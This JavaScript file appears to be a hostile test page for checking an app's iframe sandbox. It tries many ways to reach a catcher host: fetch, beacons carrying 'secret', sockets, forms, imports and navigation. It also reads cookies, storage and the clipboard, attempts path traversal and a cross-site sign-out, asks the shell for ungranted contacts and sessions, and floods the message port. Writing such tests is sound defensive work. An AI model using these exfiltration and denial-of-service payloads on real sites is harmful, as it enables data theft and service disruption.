/**
 * An experience that tries every way out that a page could have. It writes down what it reached in
 * `window.reached`, and the story's catcher sees what arrived there. A way that is shut says nothing.
 */
window.reached = [];
window.finished = '';

const own = new URL(location.href);
const twin = own.origin;
const shut = Symbol('shut');

/** The port to the shell, taken the way the SDK does, without its manners. */
const { port1: port, port2 } = new MessageChannel();
const answers = new Map();
let route;
const greeted = new Promise((resolve) => {
  port.onmessage = ({ data }) => {
    if (data.set?.route !== undefined) route = data.set.route;
    answers.get(data.n)?.(data);
    resolve();
  };
});
parent.postMessage({ hometwin: 1 }, '*', [port2]);

let n = 0;
function ask(question) {
  n += 1;
  port.postMessage({ n, ...question });
  return within(new Promise((resolve) => answers.set(n, resolve)));
}

function within(promise, ms = 1500) {
  return Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms, shut))]);
}

/** Tries one way out: whatever it gives is a hole. */
async function tries(name, way) {
  try {
    const gave = await within(Promise.resolve(way()));
    if (gave !== shut && gave !== undefined && gave !== false) window.reached.push(`${name}: ${String(gave).slice(0, 200)}`);
  } catch {
    // Shut, and loudly: as it should be.
  }
}

function element(name, values, parentNode = document.body) {
  const made = Object.assign(document.createElement(name), values);
  return new Promise((resolve) => {
    made.onload = () => resolve(`${name} loaded`);
    made.onerror = () => resolve(undefined);
    parentNode.append(made);
  });
}

function style(text) {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(text);
  document.adoptedStyleSheets.push(sheet);
}

const call = (capability, method, body = {}) => ({ call: { capability, major: 1, method, body } });
const answered = async (question) => {
  const answer = await ask(question);
  return answer !== shut && answer.ok ? JSON.stringify(answer.ok) : undefined;
};

/** Everything that ends without ending the page. `out` is the catcher. */
function ways(out) {
  const socket = (url) =>
    new Promise((resolve, reject) => {
      const made = new WebSocket(url);
      made.onopen = () => resolve('socket open');
      made.onerror = reject;
    });
  const text = async (url, options) => (await fetch(url, options)).text();
  return {
    'fetch elsewhere': () => text(`${out}/fetch`),
    'fetch without cors': async () => (await fetch(`${out}/no-cors`, { mode: 'no-cors' })).type,
    'xhr elsewhere': () =>
      new Promise((resolve, reject) => {
        const made = new XMLHttpRequest();
        made.open('GET', `${out}/xhr`);
        made.onload = () => resolve('xhr loaded');
        made.onerror = reject;
        made.send();
      }),
    beacon: () => void navigator.sendBeacon(`${out}/beacon`, 'secret'),
    'event source': () =>
      new Promise((resolve, reject) => {
        const made = new EventSource(`${out}/events`);
        made.onopen = () => resolve('open');
        made.onerror = reject;
      }),
    'socket elsewhere': () => socket(`${out.replace('http', 'ws')}/socket`),
    'socket to the twin': () => socket(`${twin.replace('http', 'ws')}/events`),
    image: () => element('img', { src: `${out}/img` }),
    script: () => element('script', { src: `${out}/script.js` }),
    stylesheet: () => element('link', { rel: 'stylesheet', href: `${out}/style.css` }),
    prefetch: () => element('link', { rel: 'prefetch', href: `${out}/prefetch` }),
    prerender: () => element('link', { rel: 'prerender', href: `${out}/prerender` }),
    preload: () => element('link', { rel: 'preload', as: 'image', href: `${out}/preload` }),
    modulepreload: () => element('link', { rel: 'modulepreload', href: `${out}/module.js` }),
    manifest: () => element('link', { rel: 'manifest', href: `${out}/manifest` }),
    icon: () => element('link', { rel: 'icon', href: `${out}/icon` }),
    'speculation rules': () =>
      element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [`${out}/speculate`] }] }) }),
    import: () => import(`${out}/import.js`).then(() => 'imported'),
    'css image': () => style(`body { background: url(${out}/background) }`),
    'css font': () => {
      style(`@font-face { font-family: out; src: url(${out}/font) } body { font-family: out }`);
      document.body.append('x');
    },
    video: () => element('video', { src: `${out}/video`, autoplay: true }),
    frame: () => element('iframe', { src: `${out}/frame` }),
    'frame of the shell': () => element('iframe', { src: `${twin}/` }).then(() => document.querySelector(`iframe[src="${twin}/"]`).contentDocument?.title || undefined),
    object: () => element('object', { data: `${out}/object` }),
    embed: () => element('embed', { src: `${out}/embed` }),
    form: () => {
      const form = Object.assign(document.createElement('form'), { action: `${out}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    'form to the top': () => {
      const form = Object.assign(document.createElement('form'), { action: `${out}/form-top`, target: '_top' });
      document.body.append(form);
      form.submit();
    },
    'form to the twin': () => {
      const form = Object.assign(document.createElement('form'), { action: `${twin}/api/identity/1/sign_out`, method: 'post', enctype: 'text/plain' });
      document.body.append(form);
      form.submit();
    },
    popup: () => (window.open(`${out}/popup`) ? 'a window' : undefined),
    ping: () => {
      const link = Object.assign(document.createElement('a'), { href: '#', ping: `${out}/ping` });
      document.body.append(link);
      link.click();
    },
    download: () => {
      const link = Object.assign(document.createElement('a'), { href: `${out}/download`, download: 'x' });
      document.body.append(link);
      link.click();
    },
    'top navigation': () => void (top.location.href = `${out}/top`),
    'parent navigation': () => void parent.location.replace(`${out}/parent`),
    worker: () => new Promise((resolve) => (new Worker('./attack.js').onmessage = () => resolve('worker'))),
    'blob worker': () =>
      new Promise((resolve, reject) => {
        const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        made.onmessage = () => resolve('worker');
        made.onerror = reject;
      }),
    'shared worker of the shell': () =>
      new Promise((resolve, reject) => {
        const made = new SharedWorker(`${twin}/shell/events-worker.js`, { type: 'module' });
        made.onerror = reject;
        made.port.onmessage = () => resolve('the shell answered');
        made.port.start();
      }),
    'service worker': () => navigator.serviceWorker.register('./attack.js').then(() => 'registered'),
    cookies: () => document.cookie || undefined,
    'local storage': () => localStorage.length + 1,
    'session storage': () => sessionStorage.length + 1,
    database: () =>
      new Promise((resolve, reject) => {
        const made = indexedDB.open('x');
        made.onsuccess = () => resolve('database');
        made.onerror = reject;
      }),
    caches: () => caches.open('x').then(() => 'cache'),
    'file system': () => navigator.storage.getDirectory().then(() => 'directory'),
    'origin of the twin': () => (window.origin === twin ? window.origin : undefined),
    'parent document': () => parent.document.title,
    'parent storage': () => parent.localStorage.length + 1,
    'parent functions': () => parent.fetch('/api/identity/1/me'),
    'the shell page': () => text(`${twin}/`),
    'the shell files': () => text(`${twin}/shell/main.js`, { mode: 'no-cors' }),
    'the api with cookies': () => text(`${twin}/api/identity/1/me`, { method: 'POST', credentials: 'include', body: '{}' }),
    'the api without': () => text(`${twin}/api/identity/1/me`, { method: 'POST', mode: 'no-cors', body: '{}' }),
    'a guessed frame': () => text(`${twin}/x/00112233445566778899aabbccddeeff/index.html`),
    'out of the frame': () => text(new URL('../../shell/main.js', own)),
    'encoded out of the frame': () => text(new URL('./%2e%2e/%2e%2e/shell/main.js', own)),
    'another twin': () => text(twin.replace('//ann.', '//bob.')),
    'the node': () => text(twin.replace('//ann.', '//node.')),
    broadcast: () => {
      new BroadcastChannel('hometwin').postMessage({ hometwin: 1 });
      new BroadcastChannel('events').postMessage({ hometwin: 1 });
    },
    'second greeting': () =>
      new Promise((resolve) => {
        const { port1, port2: second } = new MessageChannel();
        port1.onmessage = ({ data }) => resolve(JSON.stringify(data));
        parent.postMessage({ hometwin: 1 }, '*', [second]);
      }),
    alert: () => {
      alert('out');
    },
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'camera'),
    position: () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('position'), reject)),
    clipboard: () => navigator.clipboard.readText(),
    notifications: async () => ((await Notification.requestPermission()) === 'granted' ? 'granted' : undefined),
    // Through the one open door, asking for what was never chosen.
    contacts: () => answered(call('contacts', 'list')),
    history: () => answered(call('history', 'list')),
    card: () => answered(call('identity', 'card')),
    sessions: () => answered(call('identity', 'sessions')),
    'sign out': () => answered(call('identity', 'sign_out')),
    'own grant': () =>
      answered(call('experiences', 'grant', { id: '0'.repeat(32), experience: 'hostile', kind: 'conversation', thing: 'all', verbs: ['see'], from: 'history' })),
    conversations: async () => {
      const answer = await ask(call('chat', 'conversations'));
      return answer !== shut && answer.ok?.items?.length ? JSON.stringify(answer.ok) : undefined;
    },
    'notes to self': () => answered(call('chat', 'messages', { conversation: 'self' })),
    'a batch': () => answered({ call: { capability: 'batch', major: 1, method: '', body: { calls: [] } } }),
    'a path as a method': () => answered(call('identity', '../../contacts/1/list')),
    'a path as a capability': () => answered(call('../api/contacts', 'list')),
    'a choice without the person': async () => {
      const answer = await ask({ pick: { kind: 'conversation' } });
      return answer !== shut && answer.ok ? JSON.stringify(answer.ok) : undefined;
    },
    'events of others': async () => {
      const answer = await ask({ subscribe: { capability: 'contacts', major: 1, topic: {} } });
      return answer !== shut && !answer.problem ? JSON.stringify(answer) : undefined;
    },
  };
}

await within(greeted, 5000);
const [attack, out] = (route ?? '').split('|');

if (attack === 'ways') {
  for (const [name, way] of Object.entries(ways(out))) await tries(name, way);
} else if (attack === 'flood') {
  for (let count = 0; count < 5000; count += 1) port.postMessage({ n: 10_000 + count, ...call('identity', 'me') });
} else if (attack === 'endless') {
  window.finished = attack;
  for (;;) {
    port.postMessage({ set: 1 });
    await new Promise((resolve) => setTimeout(resolve));
  }
} else if (attack === 'huge') {
  port.postMessage({ n: 1, ...call('chat', 'send', { text: 'x'.repeat(8 << 20) }) });
} else if (attack === 'deep') {
  let deep = {};
  for (let depth = 0; depth < 100_000; depth += 1) deep = { deep };
  port.postMessage({ n: 1, call: deep });
} else if (attack === 'odd') {
  for (const odd of [null, 1, 'x', [], {}, { n: -1 }, { n: 1 }, { n: 1.5, call: {} }, { n: 2, call: null }]) port.postMessage(odd);
} else if (attack === 'leave') {
  location.href = `${out}/leave`;
} else if (attack === 'refresh') {
  document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${out}/refresh` }));
} else if (attack === 'to-shell') {
  location.href = `${twin}/`;
}
window.finished ||= attack || 'nothing';
